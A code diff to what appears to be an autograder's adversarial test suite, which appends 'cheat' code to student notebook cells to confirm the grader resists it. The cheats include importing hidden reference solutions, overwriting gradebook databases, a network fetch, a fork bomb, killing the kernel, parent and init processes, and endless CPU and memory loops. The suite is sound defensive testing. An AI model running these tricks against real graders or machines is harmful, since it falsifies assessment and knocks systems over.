@@ -5,11 +5,17 @@ of every exercise); the grade must not exceed that of the same wrong answers
 without the trick. Code cheats are appended to every answer cell, so they run
 after the student's definitions and before every test; notebook cheats
 change the notebook's structure instead.
+
+Tricks on answers and tests are tried on every notebook, since each notebook's
+hidden tests judge in their own way. Tricks on the sandbox (files, network,
+processes, memory, time) do not depend on the notebook, and are tried on two
+of different kinds: functions (01) and classes with stand-ins (06).
 """
 import copy
 from dataclasses import dataclass
 from typing import Callable
 
+SANDBOX_NOTEBOOKS = ("01_derivatives", "06_building_blocks")
 import nbformat
 from nbgrader import utils as nbutils
 
@@ -34,6 +40,18 @@ class Cheat:
             if nbutils.is_solution(cell):
                 cell.source = cell.source + "\n\n" + self.code.replace("__OUT__", str(out))
         return nb
+
+
+def hidden_modules():
+    """Every module whose code answers exercises: what the registry names, and all that is on disk."""
+    import pkgutil
+
+    from .. import reference, registry, stand_ins
+    found = {f"{package.__name__}.{module.name}" for package in (reference, stand_ins)
+             for module in pkgutil.iter_modules(package.__path__)}
+    found |= {f"autograder.reference.{notebook.reference}" for notebook in registry.NOTEBOOKS}
+    found |= {module for notebook in registry.NOTEBOOKS for module in notebook.publishes}
+    return sorted(found)
 
 
 def _drop_test_cells(nb):
@@ -79,16 +97,15 @@ _builtins.AssertionError = type("AssertionError", (Exception,), {})
     Cheat("import the reference package", '''
 try:
     import importlib as _il
-    for _name in ("derivatives", "chain_rule", "tensors", "linear_regression", "neural_network",
-                  "building_blocks", "training", "convolution", "fastconv"):
+    for _name in __HIDDEN_MODULES__:
         try:
-            _ref = _il.import_module("autograder.reference." + _name)
+            _ref = _il.import_module(_name)
             globals().update({k: v for k, v in vars(_ref).items() if callable(v) and not k.startswith("_")})
         except ImportError as _error:
             print("cheat: no", _name, _error)
 except Exception as _error:
     print("cheat failed:", _error)
-'''),
+'''.replace("__HIDDEN_MODULES__", repr(hidden_modules()))),
     Cheat("patch the reference package in sys.modules", '''
 import sys as _sys, types as _types
 for _name in ("autograder", "autograder.reference", "autograder.judge", "dlscratch.checks"):
@@ -117,7 +134,7 @@ for _path in _found:
         exec(_text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
     except Exception:
         pass
-'''),
+''', notebooks=SANDBOX_NOTEBOOKS),
     Cheat("replace the grader's probe", '''
 try:
     import IPython as _ipython
@@ -137,14 +154,14 @@ for _pattern in ("/**/gradebook.db", "../../**/gradebook.db", "/tmp/**/*.db"):
                 _f.write(b"0")
     except Exception as _error:
         print("cheat:", _error)
-'''),
+''', notebooks=SANDBOX_NOTEBOOKS),
     Cheat("reach the network", '''
 try:
     import urllib.request as _url
     _url.urlopen("http://example.com/answers.py", timeout=3).read()
 except Exception as _error:
     print("cheat:", _error)
-'''),
+''', notebooks=SANDBOX_NOTEBOOKS),
     Cheat("fork bomb", '''
 import os as _os
 try:
@@ -154,11 +171,11 @@ try:
                 pass
 except Exception as _error:
     print("cheat:", _error)
-'''),
+''', notebooks=SANDBOX_NOTEBOOKS),
     Cheat("kill the kernel", '''
 import os as _os
 _os._exit(0)
-'''),
+''', notebooks=SANDBOX_NOTEBOOKS),
     Cheat("kill other processes", '''
 import os as _os, signal as _signal
 for _pid in (-1, _os.getppid(), 1):
@@ -166,18 +183,18 @@ for _pid in (-1, _os.getppid(), 1):
         _os.kill(_pid, _signal.SIGKILL)
     except Exception as _error:
         print("cheat:", _error)
-'''),
+''', notebooks=SANDBOX_NOTEBOOKS),
     Cheat("loop forever, deaf to interrupts", '''
 import signal as _signal
 _signal.signal(_signal.SIGINT, _signal.SIG_IGN)
 while True:
     pass
-'''),
+''', notebooks=SANDBOX_NOTEBOOKS),
     Cheat("allocate memory without bound", '''
 _hoard = []
 while True:
     _hoard.append(bytearray(50 * 2**20))
-'''),
+''', notebooks=SANDBOX_NOTEBOOKS),
 ]
 
 # Answers that lie about themselves, from other graders' bug trackers: each replaces every function
